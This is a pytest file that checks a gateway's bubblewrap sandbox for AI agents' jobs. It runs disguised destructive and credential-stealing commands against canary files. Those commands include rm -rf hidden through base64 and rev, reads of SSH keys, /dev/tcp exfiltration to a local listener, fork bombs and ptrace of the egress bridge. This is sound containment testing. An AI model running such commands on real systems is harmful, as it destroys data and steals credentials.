"""Agents' jobs contained by structure (corral/sandbox/bwrap.py), executed for real in
bubblewrap on the local backend: attacks in several disguises against a canary home,
canary credentials, corral's own state and a canary listener, and what must keep
working. Needs bwrap (scripts/sandbox-up); under CI its absence fails the run."""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Iterator

import pytest

from corral.core.errors import InvalidRequest, SandboxUnavailable
from corral.sandbox.bwrap import Sandbox, build

from .conftest import Gateway, running

SECRET = "CANARY-7f3a9e-private-key"


def tree(pid: int) -> list[int]:
    """``pid`` and every process below it."""
    out, todo = [], [pid]
    while todo:
        p = todo.pop()
        out.append(p)
        try:
            todo += [int(c) for t in os.listdir(f"/proc/{p}/task") for c in open(f"/proc/{p}/task/{t}/children").read().split()]
        except OSError:
            pass
    return out


def need_bwrap() -> None:
    if shutil.which("bwrap") is None:
        if os.environ.get("CI") == "true":
            pytest.fail("bubblewrap is required under CI; make test runs scripts/sandbox-up first")
        pytest.skip("no bubblewrap here: run scripts/sandbox-up (as root)")


@pytest.fixture
def canary(tmp_path) -> Iterator[dict[str, Path]]:
    """A home with credentials and a project, and a world-writable work directory (the
    job may run as an unprivileged user)."""
    home = tmp_path / "canary-home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(SECRET)
    (home / "project").mkdir()
    (home / "project" / "paper.tex").write_text("results")
    work = Path(tempfile.mkdtemp(prefix="corral-sbx-work-", dir="/tmp"))
    work.chmod(0o777)
    yield {"home": home, "work": work}
    shutil.rmtree(work, ignore_errors=True)


@pytest.fixture
def gateway(tmp_path, canary) -> Iterator[Gateway]:
    """The default gateway (agents sandboxed), whose own HOME is the canary home."""
    need_bwrap()
    with running(tmp_path, HOME=str(canary["home"])) as gw:
        yield gw


def pair(gw: Gateway) -> dict[str, str]:
    """A person, alice, and her agent bot1 -> name: token."""
    with gw.http() as h:
        for body in ({"name": "alice", "kind": "human"}, {"name": "bot1", "kind": "agent", "sponsor": "alice"}):
            assert h.post("/v1/principals", json=body).status_code == 201
        return {n: h.post("/v1/tokens", json={"for": n, "expires": "1h"}).json()["token"] for n in ("alice", "bot1")}


def run_job(gw: Gateway, token: str, command: str, workdir: Path) -> dict:
    """Run it to its end; a command the policy refuses (detection, the other layer) is
    reported as refused: nothing ran."""
    with gw.http(token) as h:
        r = h.post("/v1/jobs", json={"command": command, "workdir": str(workdir), "walltime": "30s"})
        if r.status_code == 403:
            return {"state": "REFUSED", "out": "", "err": r.json()["error"]["message"]}
        assert r.status_code == 201, r.text
        job = h.get(f"/v1/jobs/{r.json()['id']}/wait", params={"timeout": 60}).json()
        out = h.get(f"/v1/jobs/{job['id']}/output").json()["data"]
        err = h.get(f"/v1/jobs/{job['id']}/output", params={"stream": "stderr"}).json()["data"]
    return {**job, "out": out, "err": err}


ATTACKS = {
    "rm of the home": "rm -rf {home}/project",
    "rm hidden in a variable through sh": "X='rm -rf {home}/project'; sh -c \"$X\"",
    "rm reversed into a shell": "echo 'tcejorp/{rhome} fr- mr' | rev | sh",
    "rm through base64": "echo {b64} | base64 -d | bash",
    "overwrite with python": "python3 -c \"open('{home}/project/paper.tex', 'w').write('gone')\"",
    "overwrite with find -delete": "find {home}/project -type f -delete",
    "write into /etc": "echo owned > /etc/corral-canary",
    "persistence in the home": "mkdir -p {home}/.config && echo x >> {home}/.bashrc",
}


def test_attacks_executed_change_nothing_outside_the_job(gateway: Gateway, canary) -> None:
    import base64

    t = pair(gateway)
    home = canary["home"]
    fill = {"home": home, "rhome": str(home)[::-1], "b64": base64.b64encode(f"rm -rf {home}/project".encode()).decode()}
    ran = 0
    for name, attack in ATTACKS.items():
        job = run_job(gateway, t["bot1"], attack.format(**fill), canary["work"])
        assert (home / "project" / "paper.tex").read_text() == "results", name
        assert not (home / ".bashrc").exists(), name
        assert not Path("/etc/corral-canary").exists(), name
        assert job["state"] in ("FAILED", "COMPLETED", "REFUSED"), (name, job)
        ran += job["state"] != "REFUSED"
    assert ran >= 4  # most disguises pass the policy's parser: the sandbox is what held


def test_secrets_and_corral_state_are_not_readable(gateway: Gateway, canary) -> None:
    t = pair(gateway)
    ran = 0
    for cmd in (f"cat {canary['home']}/.ssh/id_ed25519", f"cp -r {canary['home']}/.ssh . && cat .ssh/*",
                f"python3 -c \"print(open('{canary['home']}/.ssh/id_ed25519').read())\"",
                f"ls -la {gateway.home}; cat {gateway.home}/*.key {gateway.home}/corral.db | head -c 300",
                # disguises the policy's parser lets through: the sandbox is what holds
                f"D={canary['home']}/.s; python3 -c \"import glob; [print(open(f).read()) for f in glob.glob('$D'+'sh/*')]\"",
                f"for f in {canary['home']}/.[s]sh/*; do cat $f; done",
                f"tar c {canary['home']} 2>/dev/null | strings | head -50"):
        job = run_job(gateway, t["bot1"], cmd, canary["work"])
        ran += job["state"] != "REFUSED"
        assert SECRET not in job["out"] + job["err"], cmd
        assert "SQLite format" not in job["out"], cmd  # the gateway's database is not there
        assert "admin.token" not in job["out"], cmd
    assert ran >= 4, ran


def canary_listener() -> tuple[socket.socket, list[bytes]]:
    """A listener on loopback and what reached it (closing the socket ends its thread)."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    heard: list[bytes] = []

    def accept() -> None:
        while True:
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            heard.append(conn.recv(100) or b"(connected)")
            conn.close()

    threading.Thread(target=accept, daemon=True).start()
    return listener, heard


def test_no_connection_leaves_the_sandbox(gateway: Gateway, canary) -> None:
    t = pair(gateway)
    listener, heard = canary_listener()
    port = listener.getsockname()[1]
    try:
        for cmd in (f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2).send(b'x')\"",
                    f"bash -c 'echo leak > /dev/tcp/127.0.0.1/{port}'",
                    f"curl -s -m 2 http://127.0.0.1:{port}/ || true"):
            job = run_job(gateway, t["bot1"], cmd, canary["work"])
            assert job["state"] in ("FAILED", "COMPLETED"), job  # ran, and reached nothing
    finally:
        listener.close()
    assert heard == []


def test_other_processes_are_invisible_and_the_job_is_not_root(gateway: Gateway, canary) -> None:
    t = pair(gateway)
    sleeper = subprocess.Popen(["sleep", "60"])
    try:
        job = run_job(gateway, t["bot1"], f"kill -9 {sleeper.pid}; ps -e | wc -l; id -u", canary["work"])
        assert sleeper.poll() is None  # still alive: the job's PID namespace holds only itself
        lines = job["out"].split()
        assert int(lines[0]) < 10, job  # ps sees a handful of processes, all its own
        if os.geteuid() == 0:  # a root gateway runs an agent without a Unix user as a dynamic uid of its own
            assert 61184 <= int(lines[-1]) <= 65519, job
        else:
            assert lines[-1] != "0"
    finally:
        sleeper.kill()


def test_what_must_keep_working_inside(gateway: Gateway, canary) -> None:
    t = pair(gateway)
    work = canary["work"]
    cmd = ("set -e; python3 -c 'print(sum(range(10)))' > sum.txt; mkdir -p /tmp/scratch; echo t > /tmp/scratch/f; "
           "printf 'all:\\n\\techo built > built.txt\\n' > Makefile && make -s; "
           "git init -q repo && cd repo && echo a > a && git add a && "
           "git -c user.email=a@b -c user.name=bot commit -qm first && git log --oneline | wc -l; cat /tmp/scratch/f")
    job = run_job(gateway, t["bot1"], cmd, work)
    assert job["state"] == "COMPLETED", job
    assert (work / "sum.txt").read_text() == "45\n" and (work / "built.txt").read_text() == "built\n"
    assert job["out"].split() == ["1", "t"], job  # one commit; the private /tmp took a file


def test_people_are_not_sandboxed_by_default(gateway: Gateway, canary, tmp_path) -> None:
    t = pair(gateway)
    target = canary["work"] / "human-wrote-here"
    job = run_job(gateway, t["alice"], f"echo mine > {target}; ls /root >/dev/null 2>&1 && echo root; true", canary["work"])
    assert job["state"] == "COMPLETED" and target.read_text() == "mine\n"
    if os.geteuid() == 0:  # not contained, but never root: alice has no Unix user, so a dynamic uid of her own
        assert target.stat().st_uid != 0 and "root" not in job["out"]
    with gateway.http(t["bot1"]) as h:
        info = h.get("/v1/facility").json()["sandbox"]
    assert info["kinds"] == ["agent"] and info["available"] is True and "no network" in info["you"]


def test_fail_closed_and_bad_profiles(tmp_path) -> None:
    box = Sandbox(frozenset({"agent"}), (), why_not="bubblewrap is not installed (apt-get install bubblewrap)")
    with pytest.raises(SandboxUnavailable, match="apt-get install bubblewrap"):
        box.require("agent")
    box.require("human")  # people are not sandboxed: nothing to refuse
    with pytest.raises(InvalidRequest, match="/no/such/dir"):
        build(["agent"], [Path("/no/such/dir")], False, "nobody", [])
    if os.geteuid() == 0:
        with pytest.raises(InvalidRequest, match="no-such-user"):
            build(["agent"], [], False, "no-such-user", [])


def test_a_gateway_that_cannot_sandbox_refuses_agents_jobs(tmp_path) -> None:
    """bwrap missing from PATH: agents' jobs are refused (503, saying what to install),
    people's still run."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("bash", "sh", "python3", "setpriv", "true", "echo"):  # a PATH without bwrap
        found = shutil.which(tool)
        if found:
            (bin_dir / tool).symlink_to(found)
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o777)
    shared.chmod(0o777)
    tmp_path.chmod(0o755)
    with running(tmp_path, PATH=str(bin_dir)) as gw:
        t = pair(gw)
        with gw.http(t["bot1"]) as h:
            r = h.post("/v1/jobs", json={"command": "true", "workdir": str(shared)})
            assert r.status_code == 503 and "bubblewrap" in r.json()["error"]["message"], r.text
        with gw.http(t["alice"]) as h:
            assert h.post("/v1/jobs", json={"command": "true", "workdir": str(shared)}).status_code == 201


def test_the_job_directory_is_handed_to_the_jobs_user(gateway: Gateway) -> None:
    """A job that runs as nobody in its own directory (no workdir given) can write there."""
    t = pair(gateway)
    with gateway.http(t["bot1"]) as h:
        r = h.post("/v1/jobs", json={"command": "echo in-own-dir > note.txt && cat note.txt", "walltime": "30s"})
        job = h.get(f"/v1/jobs/{r.json()['id']}/wait", params={"timeout": 60}).json()
        out = h.get(f"/v1/jobs/{job['id']}/output").json()["data"]
    assert job["state"] == "COMPLETED" and out == "in-own-dir\n", (job, out)


BOMB = """import os, sys, time
n = 0
try:
    while n < 5000:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        n += 1
except OSError:
    pass
print(n, flush=True)
time.sleep(float(sys.argv[1]))
"""


def test_a_fork_bomb_stops_at_the_jobs_own_limit(tmp_path, canary) -> None:
    """Processes are counted per job (its own user namespace): while one job's fork bomb
    holds every process it may have, another job of the same Unix user still forks, and
    a shell fork bomb ends with its job."""
    need_bwrap()
    (canary["work"] / "bomb.py").write_text(BOMB)
    with running(tmp_path, HOME=str(canary["home"]), CORRAL_SANDBOX_PIDS_MAX="64") as gw:
        t = pair(gw)
        with gw.http(t["bot1"]) as h:
            r = h.post("/v1/jobs", json={"command": "python3 bomb.py 20", "workdir": str(canary["work"]),
                                         "walltime": "60s"})
            bomb = r.json()["id"]
            for _ in range(200):  # until the bomb has hit its limit and holds it
                out = h.get(f"/v1/jobs/{bomb}/output").json()["data"]
                if out.strip():
                    break
                time.sleep(0.1)
            held = int(out)
            assert 16 <= held < 64, out
            other = run_job(gw, t["bot1"], "python3 -c "
                            "\"import os; [os.fork() or os._exit(0) for _ in range(20)]; print('forked')\"",
                            canary["work"])
            assert other["state"] == "COMPLETED" and other["out"] == "forked\n", other
            h.post(f"/v1/jobs/{bomb}/cancel")
            shell = run_job(gw, t["bot1"], ":(){ :|:& };: ; sleep 2; echo survived", canary["work"])
            assert shell["state"] in ("COMPLETED", "FAILED", "REFUSED"), shell
            assert h.get("/healthz").status_code == 200


def test_fast_lane_tasks_run_contained(tmp_path, canary) -> None:
    """Each fast-lane task of an agent is wrapped by its worker in the same sandbox:
    secrets unreadable, nothing outside its directories written, never root, its own
    process limit; a person's task runs as written."""
    need_bwrap()
    home, work = canary["home"], canary["work"]
    victim = tmp_path / "victim.txt"
    victim.write_text("intact")
    victim.chmod(0o666)
    (work / "bomb.py").write_text(BOMB)
    with running(tmp_path, cpus=8, HOME=str(home), CORRAL_FASTLANE_CPUS="4", CORRAL_FASTLANE_MEMORY_MB="4096",
                 CORRAL_SANDBOX_PIDS_MAX="64") as gw:
        t = pair(gw)
        cmds = {"read": f"D={home}/.s; cat $D'sh'/id_*; echo done", "write": f"F={victim}; echo gone > $F",
                "who": "id -u; echo own > mine.txt && cat mine.txt", "bomb": "python3 bomb.py 0",
                "script": None}
        ids = {}
        with gw.http(t["bot1"]) as h:
            for name, cmd in cmds.items():
                body = {"script": "#!/bin/bash\nid -u\n"} if cmd is None else {"command": cmd}
                r = h.post("/v1/jobs", json={**body, "lane": "fast", "workdir": str(work), "walltime": "60s"})
                assert r.status_code == 201, (name, r.text)
                ids[name] = r.json()["id"]
            done = {n: h.get(f"/v1/jobs/{i}/wait", params={"timeout": 90}).json() for n, i in ids.items()}
            out = {n: h.get(f"/v1/jobs/{i}/output").json()["data"] for n, i in ids.items()}
        assert all(d["backend"] == "fast" for d in done.values()), done
        assert SECRET not in out["read"] and "done" in out["read"]
        assert victim.read_text() == "intact"
        uid, own = out["who"].split()
        assert own == "own" and uid != "0" and out["script"].strip() != "0", out
        assert 16 <= int(out["bomb"]) < 64, out["bomb"]
        with gw.http(t["alice"]) as h:
            r = h.post("/v1/jobs", json={"command": f"echo hers > {victim}", "lane": "fast", "workdir": str(work)})
            assert h.get(f"/v1/jobs/{r.json()['id']}/wait", params={"timeout": 90}).json()["state"] == "COMPLETED"
        assert victim.read_text() == "hers\n"


def test_local_jobs_of_a_principal_in_a_directory_share_one_built_sandbox(tmp_path, canary) -> None:
    """On the local backend, an agent's jobs in one working directory start in the
    sandbox built for the first of them (one PID namespace), each with a user namespace
    of its own; another agent, or a job without a working directory, gets its own
    sandbox. A built sandbox that is killed fails only the job it held, and the next
    job builds it anew."""
    need_bwrap()
    ns = "readlink /proc/self/ns/pid; readlink /proc/self/ns/user"
    with running(tmp_path, cpus=4, HOME=str(canary["home"])) as gw:  # the three jobs at once
        t = pair(gw)
        with gw.http() as h:
            assert h.post("/v1/principals", json={"name": "bot2", "kind": "agent", "sponsor": "alice"}).status_code == 201
            t["bot2"] = h.post("/v1/tokens", json={"for": "bot2", "expires": "1h"}).json()["token"]
        # At once, so that no namespace has ended and left its number to the next.
        with ThreadPoolExecutor(3) as pool:
            a, b, other = pool.map(lambda tok: run_job(gw, tok, ns + "; sleep 2", canary["work"]),
                                   (t["bot1"], t["bot1"], t["bot2"]))
        assert a["state"] == b["state"] == other["state"] == "COMPLETED", (a, b, other)
        (pid_a, user_a), (pid_b, user_b) = a["out"].split(), b["out"].split()
        assert pid_a == pid_b and user_a != user_b  # one sandbox; each job's own process count
        assert other["out"].split()[0] != pid_a
        with gw.http(t["bot1"]) as h:
            r = h.post("/v1/jobs", json={"command": ns, "walltime": "30s"})  # no workdir: a sandbox of its own
            alone = h.get(f"/v1/jobs/{r.json()['id']}/wait", params={"timeout": 60}).json()
            assert h.get(f"/v1/jobs/{alone['id']}/output").json()["data"].split()[0] != pid_a
            r = h.post("/v1/jobs", json={"command": "sleep 30", "workdir": str(canary["work"]), "walltime": "60s"})
            victim = r.json()["id"]
            for _ in range(100):
                if h.get(f"/v1/jobs/{victim}").json()["state"] == "RUNNING":
                    break
                time.sleep(0.1)
            time.sleep(0.3)
            pids = [p.read_text().split()[0] for p in (gw.home / "local" / "sandboxes").glob("*.pid")]
            assert len(pids) == 2, pids  # bot1's and bot2's in the directory (a job without one builds none)
            for p in pids:
                try:
                    os.kill(int(p), signal.SIGKILL)
                except ProcessLookupError:
                    pass
            end = h.get(f"/v1/jobs/{victim}/wait", params={"timeout": 30}).json()
            assert end["state"] == "FAILED", end
        again = run_job(gw, t["bot1"], ns, canary["work"])
        assert again["state"] == "COMPLETED" and again["out"].split()[0] != pid_a, again


def test_contained_tasks_start_in_one_sandbox_per_key(tmp_path) -> None:
    """The launcher builds one sandbox per (kind, user, principal, workdir) and starts
    every task of that key in it: outputs, exit codes, a script read through an fd,
    a program that does not exist, walltime, memory and cancel all hold as for bare
    tasks; a second principal gets a sandbox of its own; a sandbox that is killed fails
    the tasks it held, saying so."""
    from corral.lanes.fast.launcher import Launcher, Slots

    need_bwrap()
    box = build(["agent"], [], False, "nobody", [tmp_path], pids_max=64)
    assert box.why_not is None, box.why_not
    work = Path(tempfile.mkdtemp(prefix="corral-hosted-", dir="/tmp"))
    work.chmod(0o777)
    (tmp_path / "s.sh").write_text("#!/bin/bash\necho script $(id -u) $PWD\n")
    (tmp_path / "s.sh").chmod(0o755)
    la = Launcher(Slots(8, 4000), sandbox=box)

    def spec(jid: int, command: str, who: str = "bot1", readable: tuple[str, ...] = (), **kw: object) -> dict:
        return {"job_id": jid, "command": command, "cpus": 1, "memory_mb": 100, "gpus": 0, "walltime_s": 60,
                "env": {"PATH": "/usr/bin:/bin", "FOO": "bar"}, "dir": str(tmp_path), "workdir": str(work),
                "contain": {"kind": "agent", "user": None, "principal": who, "readable": list(readable)}, **kw}

    try:
        out = {r["job_id"]: r for r in la.run_batch([
            spec(1, "id -u; echo $FOO; touch here"), spec(2, "exit 3"), spec(3, "/no/such/program"),
            spec(4, str(tmp_path / "s.sh"), readable=(str(tmp_path / "s.sh"),)), spec(5, "cat /etc/shadow"),
            spec(6, "echo other", who="bot2"), spec(12, "sleep 3017 & setsid sleep 3018 & echo left")])}
        text = {j: (tmp_path / f"{j}.out").read_text() for j in out}
        uid, foo = text[1].split()
        assert out[1]["state"] == "COMPLETED" and foo == "bar" and (work / "here").exists()
        assert uid != "0" and (os.geteuid() != 0 or uid == "65534")  # never root: run_as, when root starts it
        assert out[2]["exit_code"] == 3 and out[3]["exit_code"] == 127
        assert text[4].split() == ["script", uid, str(work)]
        assert out[5]["state"] == "FAILED" and "Permission denied" in (tmp_path / "5.err").read_text()
        assert text[6] == "other\n" and text[12] == "left\n"
        left = subprocess.run(["pgrep", "-f", "sleep 301[78]"], capture_output=True, text=True).stdout
        assert not left.strip(), f"a task's processes outlived the tasks of its sandbox: {left}"
        assert la.hosts is not None and len(la.hosts.by_key) == 2  # bot1's and bot2's
        hog = "python3 -c 'x = bytearray(300 * 2**20); import time; time.sleep(30)'"
        threading.Timer(0.5, la.cancel, args=([9],)).start()
        out = {r["job_id"]: r for r in la.run_batch([spec(7, "sleep 30", walltime_s=1), spec(8, hog, memory_mb=50),
                                                     spec(9, "sleep 30")])}
        assert out[7]["state"] == "TIMEOUT" and out[8]["state"] == "OUT_OF_MEMORY" and out[9]["state"] == "CANCELLED"
        host = next(h for k, h in la.hosts.by_key.items() if k[:5] == ("agent", None, "bot1", str(work), None))
        threading.Timer(0.5, host.proc.kill).start()
        end = la.run_batch([spec(10, "sleep 30")])[0]
        assert end["state"] == "FAILED" and "its sandbox ended" in end["reason"], end
        assert la.run_batch([spec(11, "echo again")])[0]["state"] == "COMPLETED"  # built anew
    finally:
        la.kill_all()
        shutil.rmtree(work, ignore_errors=True)


def test_contained_tasks_sent_together_inherit_only_their_own_outputs(tmp_path) -> None:
    """A worker sends a pass's tasks to their sandbox in one message, descriptors and all
    (issue 40): each task still gets its own stdout and stderr and nothing of the tasks
    sent with it, starts with its own environment, and its end is told once."""
    from corral.lanes.fast.launcher import Launcher, Slots

    need_bwrap()
    box = build(["agent"], [], False, "nobody", [tmp_path], pids_max=256)
    assert box.why_not is None, box.why_not
    la = Launcher(Slots(64, 64000), sandbox=box)
    shared = {"PATH": "/usr/bin:/bin", "FOO": "bar"}

    def spec(jid: int, who: str) -> dict:
        return {"job_id": jid, "command": "ls /proc/self/fd; echo $FOO $CORRAL_JOB_ID; echo err >&2", "cpus": 1,
                "memory_mb": 100, "gpus": 0, "walltime_s": 60, "env": shared, "dir": str(tmp_path), "workdir": None,
                "contain": {"kind": "agent", "user": None, "principal": who, "readable": []}}

    try:
        out = la.run_batch([spec(j, f"bot{j % 2}") for j in range(1, 61)])
        assert sorted(r["job_id"] for r in out) == list(range(1, 61))
        assert all(r["state"] == "COMPLETED" for r in out), [r for r in out if r["state"] != "COMPLETED"][:3]
        for j in range(1, 61):
            *fds, env = (tmp_path / f"{j}.out").read_text().split("\n")[:-1]
            # ls's own: 0-2 and the directory it reads; a leak would show the batch's others
            assert fds == ["0", "1", "2", "3"], (j, fds)
            assert env == f"bar {j}" and (tmp_path / f"{j}.err").read_text() == "err\n"
    finally:
        la.kill_all()


def test_a_sandbox_with_tasks_about_to_be_sent_is_not_closed_as_idle(tmp_path, monkeypatch) -> None:
    """Past its most sandboxes, a worker closes idle ones to build another; one whose
    tasks of this pass are not yet sent holds them already, and is kept."""
    from corral.lanes.fast import hosts
    from corral.lanes.fast.launcher import Launcher, Slots

    need_bwrap()
    monkeypatch.setattr(hosts, "MAX_HOSTS", 2)
    box = build(["agent"], [], False, "nobody", [tmp_path], pids_max=64)
    assert box.why_not is None, box.why_not
    la = Launcher(Slots(16, 16000), sandbox=box)
    specs = [{"job_id": j, "command": "true", "cpus": 1, "memory_mb": 100, "gpus": 0, "walltime_s": 60,
              "env": {"PATH": "/usr/bin:/bin"}, "dir": str(tmp_path), "workdir": None,
              "contain": {"kind": "agent", "user": None, "principal": f"bot{j % 4}", "readable": []}}
             for j in range(1, 13)]
    try:
        out = la.run_batch(specs)
        assert [r["state"] for r in out] == ["COMPLETED"] * 12, [r for r in out if r["state"] != "COMPLETED"][:2]
    finally:
        la.kill_all()


@pytest.mark.parametrize("step", ["python", "compiled"])
def test_attacks_executed_in_every_disguise_harm_nothing(tmp_path, monkeypatch, step: str) -> None:
    """At least 150 harmful commands of every category (deletion and overwrite by any
    tool, persistence, credentials in every place, another person's home, outbound
    connections and reverse shells, the scheduler, other processes, the system), each in
    several disguises, actually run in the agent's sandbox; judged by effect. And fork
    bombs stop at the job's process limit. The filter's step both ways: seccomp.APPLY in
    Python, and corral's compiled starter run through a descriptor, as a Slurm job's
    batch script runs it (corral/sandbox/starter.py)."""
    from dataclasses import replace

    from corral.safety.canary import FORK_BOMBS, Canaries
    from corral.sandbox import starter

    need_bwrap()
    fds: list[int] = []
    if step == "compiled":
        built = starter.compiled()
        if built is None and os.environ.get("CI") == "true":
            pytest.fail("a C compiler is required under CI; scripts/sandbox-up installs gcc")
        if built is None:
            pytest.skip("no C compiler here: run scripts/sandbox-up (as root)")
        fds = [os.open(built, os.O_RDONLY)]
    # Not under /tmp (private inside the sandbox: the canaries would be out of sight
    # whatever else held); reachable by the job's user (nobody): only the sandbox stops it.
    spot = Path(tempfile.mkdtemp(prefix="corral-canaries-", dir="/var/tmp"))
    spot.chmod(0o755)
    with Canaries(spot / "c") as c:
        monkeypatch.setenv("HOME", str(c.home))  # the sandbox hides credentials under the gateway's home
        box = build(["agent"], [], False, "nobody", [tmp_path / "state"], pids_max=64)
        assert box.why_not is None, box.why_not
        box = replace(box, starter=f"/dev/fd/{fds[0]}") if fds else box
        assert ("apply" in box.wrap("agent", ["true"], "/tmp")) == bool(fds)
        work = Path(tempfile.mkdtemp(prefix="corral-sbx-exec-", dir="/tmp"))
        work.chmod(0o777)
        harmed, ran = [], 0
        try:
            for cmd, category, disguise in c.attacks():
                try:
                    r = subprocess.run(box.wrap("agent", ["bash", "-c", cmd], str(work)), capture_output=True,
                                       text=True, timeout=3 if category == "scheduler" else 15,
                                       env={**os.environ, "HOME": str(c.home)}, pass_fds=fds)
                    said = r.stdout + r.stderr
                except subprocess.TimeoutExpired as e:  # still trying: Slurm's tools retry for a minute
                    # a configuration they cannot read (it is under the host's /tmp here)
                    said = "".join(x.decode(errors="replace") if isinstance(x, bytes) else x or "" for x in (e.stdout, e.stderr))
                ran += 1
                harm = c.judge(said)
                if harm:
                    harmed.append((category, disguise, cmd[:80], harm))
            for bomb in FORK_BOMBS:
                p = subprocess.Popen(box.wrap("agent", ["bash", "-c", bomb], str(work)), stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL, pass_fds=fds)
                time.sleep(1.5)
                held = len(tree(p.pid))  # its own: other tests' jobs run beside it
                p.kill()
                p.wait()
                if os.geteuid() == 0:
                    assert held <= 64 + 3, (bomb, held)  # the limit, and bwrap's two processes
                ran += 1
        finally:
            shutil.rmtree(work, ignore_errors=True)
            shutil.rmtree(spot, ignore_errors=True)
            for fd in fds:
                os.close(fd)
        assert ran >= 150, ran
        assert harmed == [], harmed


def _mirror(root: Path) -> Path:
    """A package index of one wheel (written by hand: no network, no build backend)."""
    import zipfile

    whl = "corral_mirror_pkg-1.0-py3-none-any.whl"
    (root / "simple" / "corral-mirror-pkg").mkdir(parents=True)
    info = "corral_mirror_pkg-1.0.dist-info"
    files = {"corral_mirror_pkg/__init__.py": "FROM_MIRROR = True\n",
             f"{info}/METADATA": "Metadata-Version: 2.1\nName: corral-mirror-pkg\nVersion: 1.0\n",
             f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: corral\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    with zipfile.ZipFile(root / whl, "w") as z:
        for k, v in files.items():
            z.writestr(k, v)
        z.writestr(f"{info}/RECORD", "".join(f"{k},,\n" for k in files) + f"{info}/RECORD,,\n")
    (root / "simple" / "corral-mirror-pkg" / "index.html").write_text(f'<a href="../../{whl}">{whl}</a>\n')
    return root


def test_egress_reaches_the_allow_list_and_nothing_else(tmp_path, canary) -> None:
    """With [sandbox] allow_hosts, an agent's job installs from the facility's mirror
    through corral's egress proxy (proxy.py); any other host, by any program, and a
    direct connection, reach nothing."""
    need_bwrap()
    mirror = subprocess.Popen([sys.executable, "-m", "http.server", "0", "--bind", "127.0.0.1"],
                              cwd=_mirror(tmp_path / "mirror"), stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    listener, heard = canary_listener()
    try:
        line = mirror.stdout.readline() if mirror.stdout else ""
        mport = int(line.split("port ")[1].split()[0])
        lport = listener.getsockname()[1]
        with running(tmp_path, HOME=str(canary["home"]), CORRAL_SANDBOX_ALLOW_HOSTS=f'["127.0.0.1:{mport}"]') as gw:
            t = pair(gw)
            ok = run_job(gw, t["bot1"], "python3 -m venv /tmp/v && /tmp/v/bin/pip install -q --disable-pip-version-check "
                         f"--index-url http://127.0.0.1:{mport}/simple corral-mirror-pkg && "
                         "/tmp/v/bin/python -c 'import corral_mirror_pkg; print(corral_mirror_pkg.FROM_MIRROR)'",
                         canary["work"])
            assert ok["state"] == "COMPLETED" and ok["out"].strip() == "True", ok
            for cmd in (f"curl -s -m 3 http://127.0.0.1:{lport}/",
                        f"curl -s -m 3 --noproxy '*' http://127.0.0.1:{lport}/",
                        f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {lport}), 2).send(b'x')\"",
                        f"bash -c 'echo leak > /dev/tcp/127.0.0.1/{lport}'",
                        "curl -s -m 3 https://pypi.org/simple/"):
                job = run_job(gw, t["bot1"], cmd, canary["work"])
                assert job["state"] in ("FAILED", "COMPLETED", "REFUSED"), job
                if cmd.startswith("curl -s -m 3 http:"):  # the proxy's answer says what to ask for
                    assert "not on this facility's egress allow-list" in job["out"], job
            # The bridge (socat) runs unfiltered as the job's uid: the job must not be able to
            # trace it, read or write its memory, or copy the program to run it unfiltered.
            trace = ("P=$(for p in /proc/[0-9]*; do [ \"$(cat $p/comm 2>/dev/null)\" = socat ] && echo ${p#/proc/} "
                     "&& break; done); echo PID=$P; python3 -c \"import ctypes, sys; libc = ctypes.CDLL(None, "
                     "use_errno=True); r = libc.ptrace(16, int(sys.argv[1]), 0, 0); print('ATTACH', r, ctypes.get_errno())\" "
                     "$P; head -c 10 /proc/$P/maps >/dev/null 2>&1 && echo MAPS-READ; "
                     "cp \"$(command -v socat)\" /tmp/s 2>/dev/null && echo COPIED; echo done")
            job = run_job(gw, t["bot1"], trace, canary["work"])
            assert "PID=" in job["out"] and "PID=\n" not in job["out"] and "done" in job["out"], job
            assert "ATTACH -1 1" in job["out"] and "MAPS-READ" not in job["out"] and "COPIED" not in job["out"], job
            with gw.http(t["bot1"]) as h:
                info = h.get("/v1/facility").json()["sandbox"]
            assert info["allow_hosts"] == [f"127.0.0.1:{mport}"] and "through the proxy" in info["you"]
    finally:
        mirror.kill()
        listener.close()
    assert heard == []


def test_an_admin_sees_and_tries_the_sandbox_from_the_cli(tmp_path) -> None:
    """`corral sandbox show` says what this machine builds; `corral sandbox run` runs a
    command as an agent's job would (credentials empty, the host read-only, never root)."""
    need_bwrap()
    home = Path(tempfile.mkdtemp(prefix="corral-cli-sbx-", dir="/var/tmp"))  # not /tmp: private inside
    try:
        (home / ".ssh").mkdir()
        (home / ".ssh" / "id_ed25519").write_text(SECRET)
        home.chmod(0o755)
        env = {**os.environ, "HOME": str(home), "CORRAL_HOME": str(tmp_path / "corral")}
        cli = [sys.executable, "-m", "corral.edges.cli.main"]
        shown = json.loads(subprocess.run([*cli, "--json", "sandbox", "show"], env=env, capture_output=True,
                                          text=True, check=True).stdout)
        assert shown["available"] and shown["pids_max"] == 512 and str(home / ".ssh") in shown["hidden"]
        # The profile a job gets, as data: the credentials emptied, the host read-only beneath
        # them, the filter the last step before the job.
        mounts = shown["profile"]["mounts"]
        assert mounts[0] == {"op": "ro-bind", "src": "/", "dst": "/"}
        assert {"op": "tmpfs", "dst": str(home / ".ssh")} in mounts
        assert shown["profile"]["steps"][-1].endswith("python3")
        r = subprocess.run([*cli, "sandbox", "run", "--", "bash", "-c",
                            f"cat {home}/.ssh/id_ed25519; echo x > /etc/corral-cli-canary; id -u; exit 3"],
                           env=env, capture_output=True, text=True, timeout=60)
        assert r.returncode == 3 and SECRET not in r.stdout + r.stderr, r
        assert r.stdout.split()[-1] != "0" and not Path("/etc/corral-cli-canary").exists()
        bad = subprocess.run([*cli, "sandbox", "run", "--kind", "human", "--", "true"], env=env, capture_output=True,
